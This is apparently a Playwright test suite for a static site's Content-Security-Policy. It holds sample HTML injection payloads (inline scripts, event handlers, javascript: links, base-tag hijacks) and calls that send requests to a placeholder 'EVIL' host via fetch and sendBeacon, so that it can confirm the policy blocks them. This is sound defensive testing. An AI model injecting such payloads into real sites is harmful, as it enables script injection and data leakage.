"""The Content-Security-Policy in a browser: honest pages break none of it, and what is smuggled into one does nothing.

Each attack is tried on a page of the site with the policy that the page has in itself, and without any, where it must succeed,
or the test would show nothing; some also with the one that a host tells by `_headers`, and none in the page.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable, Iterable, Iterator
from contextlib import nullcontext
from dataclasses import dataclass
from itertools import groupby, islice
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Page
from tests.browser.kinds import KINDS, PATTERNS
from tests.host import Host, hosting
from tests.outputs.everything import HOSTILE, MARKDOWN, Build, Texts

from talanoa.outputs.output import File
from talanoa.outputs.policy import POLICY, allowing
from talanoa.outputs.scripts import INLINE, inline, script, scripts

META = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
TELL = """
document.addEventListener("securitypolicyviolation", event => told(event.effectiveDirective + " " + event.blockedURI))
"""
SCRIPTS = "[...document.scripts].filter(each => each.type != 'application/ld+json').map(each => each.src || each.text)"
RUN = "document.documentElement.dataset.ran = 1"
HAS_RUN = "document.documentElement.dataset.ran === '1'"


class Reader:
    """A browser's tab, and what it reports."""

    def __init__(self, context: BrowserContext) -> None:
        self.violations: list[str] = []
        self.console: list[str] = []
        self.requests: list[str] = []
        context.expose_binding("told", lambda _, text: self.violations.append(text))
        context.add_init_script(TELL)
        self.page: Page = context.new_page()
        self.page.on("console", lambda message: self.console.append(message.text))
        self.page.on("pageerror", lambda error: self.console.append(str(error)))
        self.page.on("request", lambda request: self.requests.append(request.url))

    def wait(self) -> None:
        """Until what a page began has happened."""
        self.page.wait_for_timeout(150)

    def wait_until(self, happened: Callable[[], object]) -> None:
        """A second at most: what is to happen may well not."""
        for _ in range(100):
            if happened():
                return
            self.page.wait_for_timeout(10)

    def forget(self) -> None:
        for told in (self.violations, self.console, self.requests):
            told.clear()


@pytest.fixture(scope="module")
def tab_that_tells(browser: Browser) -> Iterator[Reader]:
    context = browser.new_context(reduced_motion="reduce")
    yield Reader(context)
    context.close()


@pytest.fixture
def reader(tab_that_tells: Reader) -> Reader:
    tab_that_tells.page.goto("about:blank")
    tab_that_tells.forget()
    return tab_that_tells


# Of the kinds, those between which scripts and styles differ most.
SCRIPTED = ("home", "members", "month", "search", "join", "contribute", "post with code", "at a glance")


@pytest.mark.parametrize("with_headers", [True, False], ids=["host with headers", "host without"])
def test_no_page_breaks_the_policy_or_asks_another_host(built: Path, reader: Reader, with_headers: bool) -> None:
    """Of every kind, by the host with headers, test_every_kind.py shows it; that all pages have the same policy, test_headers.py."""
    with hosting(built, with_headers=with_headers) as host:
        for kind in SCRIPTED:
            response = reader.page.goto(host.address + KINDS[kind])
            assert response
            assert ("content-security-policy" in response.headers) == with_headers
        reader.wait()
        assert reader.violations == []
        assert reader.console == []
        assert [url for url in reader.requests if not url.startswith((host.address, "data:"))] == []


def two_of_each_kind(addresses: Iterable[str]) -> list[str]:
    """Others have the same template and the same texts; the manual's come with the program."""
    kinds = groupby(sorted(addresses, key=kind_of), key=kind_of)
    return [address for _, alike in kinds for address in islice(alike, 2)]


def kind_of(address: str) -> str:
    return next(kind for kind, pattern in PATTERNS.items() if re.fullmatch(pattern, address))


def test_hostile_texts_do_nothing_in_a_browser(tmp_path: Path, reader: Reader) -> None:
    """The texts of tests/outputs/test_escaping.py, read by a real parser; the policy has nothing left to block."""
    build = Build(tmp_path / "network", Texts(HOSTILE, "\n\n" + MARKDOWN))
    site = tmp_path / "site"
    tried = two_of_each_kind(build.pages)
    for address in tried:
        page = build.pages[address]
        path = site / (address.lstrip("/") + ("" if address.endswith(".html") else "index.html"))
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(page, "utf-8")
    for file in (File("/a.css", b""), File("/a.js", b""), *scripts()):
        path = site / file.address.lstrip("/")
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(file.data)
    with hosting(tmp_path) as host:
        for address in tried:
            reader.page.goto(f"{host.address}/site{address}")
            code = inline(build.scripts[address])
            sources = [it if it in code else urlsplit(it).path for it in reader.page.evaluate(SCRIPTS)]
            ours = {script(name).address for name in build.scripts[address] if name not in INLINE}
            base = "/n" if address.endswith(".html") else "/site"  # of a page that is at any address
            assert sorted(sources) == sorted([*code, *(f"{base}{source}" for source in {"/a.js", *ours})]), address
            assert reader.page.evaluate("document.querySelectorAll('main').length") == 1
        reader.wait()
    assert reader.violations == []
    assert [text for text in reader.console if "404" not in text] == [], "but for pictures that aren't there"
    assert [url for url in reader.requests if "evil" in url] == []


# The HTML that someone gets into a page, what the browser says it blocked, and what shows that it worked (a request to
# the other host, unless it says otherwise). `EVIL` is the other host.
INJECTED = {
    "inline script": (f"<script>{RUN}</script>", "script-src-elem inline", HAS_RUN),
    "script of another host": ("<script src='EVIL/x.js'></script>", "script-src-elem EVIL/x.js", ""),
    "script as data": (f"<script src='data:,{RUN}'></script>", "script-src-elem data", HAS_RUN),
    "event handler": (f'<img src="/x.png" onerror="{RUN}">', "script-src-attr inline", HAS_RUN),
    "javascript: address": (f"<a id='go' href='javascript:{RUN};void 0'>x</a>", "script-src-elem inline", HAS_RUN),
    "script in a frame's text": (
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        "script-src-elem inline",
        HAS_RUN,
    ),
    "script in a picture": (f"<svg><script>{RUN}</script></svg>", "script-src-elem inline", HAS_RUN),
    "styles": ("<style>html { --ran: 1 }</style>", "style-src-elem inline", "getComputedStyle(document.documentElement)"
               ".getPropertyValue('--ran').trim() === '1'"),
    "style": ("<p id='p' style='--ran: 1'>", "style-src-attr inline", "getComputedStyle(document.getElementById('p'))"
              ".getPropertyValue('--ran').trim() === '1'"),
    "styles of another host": ("<link rel='stylesheet' href='EVIL/x.css'>", "style-src-elem EVIL/x.css", ""),
    "base": ("<base href='EVIL/'><a id='go' href='x.html'>x</a>", "base-uri EVIL/", ""),
    "object": ("<object data='EVIL/x.html'></object>", "object-src EVIL", ""),
    "embed": ("<embed src='EVIL/x.html'>", "object-src EVIL", ""),
    "frame": ("<iframe src='EVIL/x.html'></iframe>", "frame-src EVIL", ""),
    "form": ("<form action='EVIL/x'><button id='go'>x</button></form>", "form-action EVIL/x", ""),
    "picture of another host": ("<img src='EVIL/x.png'>", "img-src EVIL/x.png", ""),
    "film of another host": ("<video src='EVIL/x.mp4'></video>", "media-src EVIL/x.mp4", ""),
    "ping": ("<a id='go' href='#content' ping='EVIL/x'>x</a>", "connect-src EVIL/x", ""),
}  # fmt: skip
# The same for what only code can do, if someone's code ran after all.
DONE_BY_CODE = {
    "worker from a text": (
        "new Promise(done => { try { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));"
        f" w.onmessage = () => {{ {RUN}; done() }}; w.onerror = () => done() }} catch {{ done() }} }})",
        "worker-src blob",
        HAS_RUN,
    ),
    "text as code": (  # later, since what a debugger evaluates is let through
        f"new Promise(done => setTimeout(() => {{ try {{ (0, eval)('{RUN}') }} catch {{}} done() }}))",
        "script-src eval",
        HAS_RUN,
    ),
    "telling another host": ("fetch('EVIL/x').catch(() => 0)", "connect-src EVIL/x", ""),
    "beacon": ("void navigator.sendBeacon('EVIL/x', 'x')", "connect-src EVIL/x", ""),
    "font of another host": (
        "new FontFace('x', 'url(EVIL/x.woff2)').load().catch(() => 0)",
        "font-src EVIL/x.woff2",
        "",
    ),
}
# By the host, some of each kind: its policy has the words of the page's (tests/outputs/test_headers.py).
BY_THE_HOST = {"inline script", "script of another host", "style", "base", "frame", "form", "text as code", "beacon"}


@dataclass(frozen=True)
class Hosts:
    """The site on a host that reads `_headers` and on one that doesn't, with a page to write into; and another site."""

    folder: Path
    page: str
    strict: Host
    simple: Host
    evil: Host

    def page_with(self, html: str, how: str) -> str:
        """The address of a page with this HTML in it, and with the policy told in this way."""
        page = self.page if how == "in the page" else META.sub("", self.page)
        html = html.replace("EVIL", self.evil.address)
        (self.folder / "about/index.html").write_text(page.replace("</main>", f"{html}</main>"), "utf-8")
        return (self.strict if how == "by the host" else self.simple).address + "/about/"


@pytest.fixture(scope="module")
def hosts(built: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hosts]:
    folder, evil = tmp_path_factory.mktemp("ours"), tmp_path_factory.mktemp("evil")
    shutil.copy(built / "_headers", folder)
    for name in ("about", "assets"):
        shutil.copytree(built / name, folder / name)
    for name in ("x", "x.js", "x.css", "x.png", "x.mp4", "x.woff2", "x.html"):
        (evil / name).write_text("", "utf-8")
    page = (built / "about/index.html").read_text("utf-8")
    with hosting(folder, with_headers=True) as strict, hosting(folder) as simple, hosting(evil) as other:
        yield Hosts(folder, page, strict, simple, other)


@pytest.mark.parametrize("attack", [*INJECTED, *DONE_BY_CODE])
def test_what_is_smuggled_into_a_page_does_nothing(hosts: Hosts, reader: Reader, attack: str) -> None:
    html, blocked, worked = INJECTED.get(attack) or ("", *DONE_BY_CODE[attack][1:])
    code = DONE_BY_CODE[attack][0].replace("EVIL", hosts.evil.address) if attack in DONE_BY_CODE else ""
    expected = blocked.replace("EVIL", hosts.evil.address)

    def done() -> bool:
        return bool(reader.page.evaluate(worked) if worked else hosts.evil.asked)

    def told() -> bool:
        return any(text.startswith(expected) for text in reader.violations)

    for how in ("in the page", *(("by the host",) if attack in BY_THE_HOST else ()), "not at all"):
        reader.violations.clear()
        hosts.evil.asked.clear()
        reader.page.goto(hosts.page_with(html, how))
        if "id='go'" in html:
            with reader.page.expect_navigation() if attack == "base" else nullcontext():
                reader.page.click("#go", no_wait_after=True)
        if code:
            reader.page.evaluate(code)
        reader.wait_until(lambda: told() or done())
        assert done() == (how == "not at all"), how
        assert told() == (how != "not at all"), (how, reader.violations)


@pytest.mark.parametrize("with_headers", [True, False], ids=["host with headers", "host without"])
def test_another_site_shows_ours_in_a_frame_only_where_headers_are_not_read(
    built: Path, tmp_path: Path, reader: Reader, with_headers: bool
) -> None:
    """The one thing that a page can't say itself."""
    with hosting(built, with_headers=with_headers) as ours, hosting(tmp_path) as theirs:
        (tmp_path / "index.html").write_text(f"<iframe src='{ours.address}/join/'></iframe>", "utf-8")
        reader.page.goto(theirs.address)
        reader.wait()
        framed = reader.page.frames[1]
        assert (framed.query_selector(".t-header") is None) == with_headers


def test_feeds_can_be_fetched_by_another_site_and_pages_cannot(built: Path, tmp_path: Path, reader: Reader) -> None:
    with hosting(built, with_headers=True) as ours, hosting(tmp_path) as theirs:
        (tmp_path / "index.html").write_text("<title>A reader of feeds</title>", "utf-8")
        reader.page.goto(theirs.address)
        fetched = "address => fetch(address).then(found => found.headers.get('content-type'), () => '')"
        assert reader.page.evaluate(fetched, f"{ours.address}/rss.xml") == "application/rss+xml; charset=utf-8"
        assert reader.page.evaluate(fetched, f"{ours.address}/events/calendar.ics") == "text/calendar; charset=utf-8"
        assert reader.page.evaluate(fetched, f"{ours.address}/about/") == ""


def test_an_outside_link_does_not_say_where_its_reader_comes_from(hosts: Hosts, reader: Reader) -> None:
    ours = hosts.simple.address
    html = f"<a id='out' href='EVIL/x.html'>x</a><a id='own' href='{ours}/about/?again'>y</a>"
    for name, referrer in (("out", ""), ("own", f"{ours}/about/")):
        reader.page.goto(hosts.page_with(html, "in the page"))
        with reader.page.expect_navigation():
            reader.page.click(f"#{name}")
        assert reader.page.evaluate("document.referrer") == referrer


def test_a_script_of_our_own_templates_is_let_through_by_its_hash(hosts: Hosts, reader: Reader) -> None:
    """It alone runs."""
    told = f'<meta http-equiv="Content-Security-Policy" content="{allowing(POLICY, [RUN])}">'
    for code, runs in ((RUN, True), (f"{RUN} ", False)):
        address = hosts.page_with(f"<script>{code}</script>", "in the page")
        path = hosts.folder / "about/index.html"
        path.write_text(META.sub(told, path.read_text("utf-8")), "utf-8")
        reader.page.goto(address)
        assert reader.page.evaluate(HAS_RUN) == runs
